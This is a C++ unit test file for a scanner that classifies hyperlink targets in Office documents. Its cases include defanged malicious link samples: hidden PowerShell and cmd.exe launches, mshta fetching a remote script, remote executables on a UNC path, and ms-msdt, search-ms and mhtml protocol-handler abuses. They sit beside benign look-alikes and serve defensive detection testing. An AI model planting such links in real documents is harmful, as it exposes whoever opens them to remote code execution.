#include "scanner/office/document_links.h"

#include <gtest/gtest.h>

#include <random>
#include <string>

#include "model/finding.h"

namespace sekisho::scanner::office {
namespace {

TEST(DocumentLinks, WhatTheyMean) {
    const struct {
        std::string target;
        const char* id;
    } cases[] = {
        {"powershell%20-NoP%20-W%20Hidden%20-c%20rem%20INERT", "office.link.command"},
        {"cmd.exe%20/c%20rem%20INERT", "office.link.command"},
        {"file:///C:\\Windows\\System32\\mshta.exe%20http://example.invalid/i", "office.link.command"},
        {"MSHTA http://example.invalid/i", "office.link.command"},
        {"file:///\\\\192.0.2.7@80\\s\\a.exe", "office.link.program"},
        {"\\\\192.0.2.7\\s\\a.js", "office.link.program"},
        {"ms-msdt:/id PCWDiagnostic /skip force /param \"INERT\"", "office.link.protocol"},
        {"search-ms:query=a&crumb=location:\\\\192.0.2.7@80\\s", "office.link.protocol"},
        {"MS-OfficeCmd:%7B%7D", "office.link.protocol"},
        {"mhtml:http://192.0.2.7/a!x-usc:http://192.0.2.7/a", "office.link.protocol"},
        {"ms-its:http://example.invalid/a.chm::/a.htm", "office.link.protocol"},
        {"mhtml:file://C:\\pages\\a.mht!https://www.example.com/", ""},
        {"mk:@MSITStore:C:\\help\\a.chm::/a.htm", ""},
        {"search", ""},
        {"http://example.invalid/a.exe", ""},  // link.executable
        {"https://www.example.com/search:a", ""},
        {"search.html", ""},
        {"#Sheet1!A1", ""},
        {"mailto:ann@example.com?subject=cmd%20/c", ""},
        {"file:///\\\\srv\\tools\\setup.exe", ""},
        {"\\\\srv\\tools\\a.bat", ""},
        {"Control%20plan.xlsx", ""},
        {"bash%20scripts.docx", ""},
        {"PowerShell%20Guide.docx", ""},
        {"..\\reports\\cmd%20-%20list.xlsx", ""},
        {"file:///C:\\Program%20Files\\App\\app.exe", ""},
        {"%", ""},
        {"", ""},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(judge_document_link(c.target), c.id) << c.target;
        EXPECT_TRUE(*c.id == '\0' || model::find_finding(c.id) != nullptr) << c.id;
    }
}

TEST(DocumentLinksProperty, AnyCutAndAnyByteIsRead) {
    const std::string whole = "file:///C:\\Windows\\System32\\mshta.exe%20http://example.invalid/i";
    std::mt19937 random(3);  // NOLINT: the same every time
    for (std::size_t at = 0; at < whole.size(); ++at) {
        const std::string_view cut = judge_document_link(std::string_view(whole).substr(0, at));
        EXPECT_TRUE(cut.empty() || cut == "office.link.command") << at;
        std::string changed = whole;
        changed[at] = static_cast<char>(random());
        const std::string_view id = judge_document_link(changed);
        EXPECT_TRUE(id.empty() || model::find_finding(id) != nullptr) << changed;
    }
}

}  // namespace
}  // namespace sekisho::scanner::office
